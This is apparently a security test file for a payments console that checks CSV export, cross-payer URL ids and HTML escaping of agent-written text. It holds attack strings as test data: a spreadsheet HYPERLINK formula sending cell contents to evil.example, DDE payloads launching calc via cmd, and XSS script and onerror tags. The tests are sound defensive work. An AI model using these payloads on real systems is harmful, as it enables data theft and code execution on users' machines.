/**
 * Attacks on the console's money and settings pages (DESIGN §21), against DynamoDB Local with the
 * pages called as the framework calls them:
 * - a malicious agent names itself and describes its charges as spreadsheet formulas, hoping the
 *   payer opens the Statement's CSV in a spreadsheet: every such cell must be inert text (a leading
 *   '), while the amounts stay numbers;
 * - a signed-in payer sends another payer's ids (top-up, grant, webhook endpoint, history cursor)
 *   in URLs: each is refused as not found (404), shows nothing of the other payer's and changes
 *   nothing; the Statement's cursor (a position, read in the caller's own rows) shows none of theirs.
 * - markup in what an agent writes is shown as text, never as markup.
 */

import { statementQuerySchema } from '../../functions/contracts/request.schemas';
import { validate } from '../../functions/contracts/validation';
import { listOwnerWebhooks } from '../../functions/use-cases/events/webhooks';
import { listMyGrants } from '../../functions/use-cases/identity/grants';
import { readStatement, statementView } from '../../functions/use-cases/identity/statement';
import { bodyOf, charge, consolePagesEnv, credit, get, newAgent, newPayer, onceKeyOf, post, statusOf } from '../console/pages/support';

consolePagesEnv();

describe('CSV formula injection through the Statement’s Download CSV', () => {
  it('turns every cell an agent controls that starts with = + - @ (or tab / CR) into inert text', async () => {
    const payer = await newPayer();
    await credit(payer, '10', 'USD');
    const evil = await newAgent('=HYPERLINK("https://evil.example/?"&A1,"Click")');
    const payloads = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", '-2+3', '=1+1', '\t=1+1', '\r=1+1'];
    for (const description of payloads) await charge(evil, payer, '0.01', 'USD', description);

    const csv = await get(payer, '/console/statement/csv?type=charge');
    if (csv.kind !== 'download') throw new Error('no download');
    // Parse it as a spreadsheet would (RFC 4180), then look at every cell.
    const cells = parseCsv(csv.body);
    expect(cells[0]).toEqual([
      'id',
      'createdAt',
      'type',
      'counterparty',
      'description',
      'amount',
      'currency',
      'balanceAfter',
      'status',
      'grantId',
      'reference',
    ]);
    const rows = cells.slice(1);
    expect(rows).toHaveLength(payloads.length);
    for (const row of rows) {
      // The amount and the balance after it are the service's own numbers (a debit is negative): plain decimals.
      expect([row[5], row[7]]).toEqual([expect.stringMatching(/^-?\d+\.\d+$/), expect.stringMatching(/^\d+\.\d+$/)]);
      for (const cell of row.filter((_, i) => i !== 5 && i !== 7)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(row[3]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
    }
    expect(rows.map((r) => r[4]).sort()).toEqual(payloads.map((p) => `'${p}`).sort());
  });
});

describe('another payer’s ids in the console’s URLs', () => {
  it('are refused as not found and change nothing', async () => {
    const owner = await newPayer();
    const intruder = await newPayer();
    await credit(owner, '10', 'USD');
    const agent = await newAgent();
    // The owner's things: a top-up, a grant, a webhook endpoint, a history.
    const funds = bodyOf(await get(owner, '/console/funds'));
    const topup = await post(owner, '/console/funds/usdc', { amount: '5', idempotencyKey: onceKeyOf(funds, '/console/funds/usdc') });
    const topupPath = topup.kind === 'redirect' ? topup.location : '';
    const grants = bodyOf(await get(owner, '/console/grants'));
    await post(owner, '/console/grants', { agentId: agent.id, currency: 'USD', idempotencyKey: onceKeyOf(grants, '/console/grants') });
    const [grant] = (await listMyGrants(owner.userId, { limit: 10 })).grants;
    const devs = bodyOf(await get(owner, '/console/developers'));
    await post(owner, '/console/developers/webhooks', {
      url: 'http://127.0.0.1:9/owner',
      idempotencyKey: onceKeyOf(devs, '/console/developers/webhooks'),
    });
    const [hook] = await listOwnerWebhooks({ kind: 'user', id: owner.userId });
    for (let i = 0; i < 3; i++) await charge(agent, owner, '1', 'USD', `owner secret ${i}`);
    const history = bodyOf(await get(owner, '/console/statement'));
    expect(history).toContain('owner secret');

    // The intruder, signed in as themself, tries each id.
    const seenTopup = await get(intruder, topupPath);
    expect(statusOf(seenTopup)).toBe(404);
    expect(bodyOf(seenTopup)).not.toContain('solana:');
    expect(statusOf(await post(intruder, `/console/grants/${grant?.id}/revoke`, {}))).toBe(404);
    expect(statusOf(await get(intruder, `/console/developers/webhooks/${hook?.id}`))).toBe(404);
    expect(statusOf(await post(intruder, `/console/developers/webhooks/${hook?.id}/delete`, {}))).toBe(404);
    expect(statusOf(await post(intruder, `/console/developers/webhooks/${hook?.id}/test`, {}))).toBe(404);
    // A cursor cut from the owner's statement is a position: read in the intruder's own rows, it shows none of the owner's.
    const ownerPage = await charge(agent, owner, '1', 'USD', 'one more');
    expect(ownerPage.statusCode).toBe(201);
    const cursor = statementView(await readStatement(owner.userId, validate(statementQuerySchema, { limit: '1' }))).nextCursor as string;
    expect(cursor).toEqual(expect.any(String));
    const stolen = await get(intruder, `/console/statement?cursor=${encodeURIComponent(cursor)}`);
    expect(bodyOf(stolen)).not.toContain('owner secret');
    const stolenCsv = await get(intruder, `/console/statement/csv?cursor=${encodeURIComponent(cursor)}`);
    expect(stolenCsv.kind === 'download' ? stolenCsv.body : '').not.toContain('owner secret');
    // The intruder's own views show nothing of the owner's.
    for (const path of ['/console/funds', '/console/grants', '/console/limits', '/console/developers', '/console/statement']) {
      const markup = bodyOf(await get(intruder, path));
      expect(markup).not.toContain('owner secret');
      expect(markup).not.toContain(grant?.id ?? 'none');
      expect(markup).not.toContain('127.0.0.1:9/owner');
    }
    // Nothing changed.
    expect((await listMyGrants(owner.userId, { limit: 10 })).grants[0]?.revokedAt).toBeUndefined();
    expect(await listOwnerWebhooks({ kind: 'user', id: owner.userId })).toHaveLength(1);
  });
});

describe('what an agent writes is text, never markup', () => {
  it('escapes an agent’s name and description on the Statement, Grants and Limits', async () => {
    const payer = await newPayer();
    await credit(payer, '10', 'USD');
    const agent = await newAgent('<img src=x onerror=alert(1)>');
    await charge(agent, payer, '1', 'USD', '<script>alert(2)</script>');
    const grants = bodyOf(await get(payer, '/console/grants'));
    await post(payer, '/console/grants', { agentId: agent.id, currency: 'USD', idempotencyKey: onceKeyOf(grants, '/console/grants') });
    for (const path of ['/console/statement', '/console/grants', '/console/limits']) {
      const markup = bodyOf(await get(payer, path));
      expect(markup).not.toContain('<img src=x');
      expect(markup).not.toContain('<script>');
      expect(markup).toContain('&lt;img src=x onerror=alert(1)&gt;');
    }
  });
});

/** RFC 4180: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}
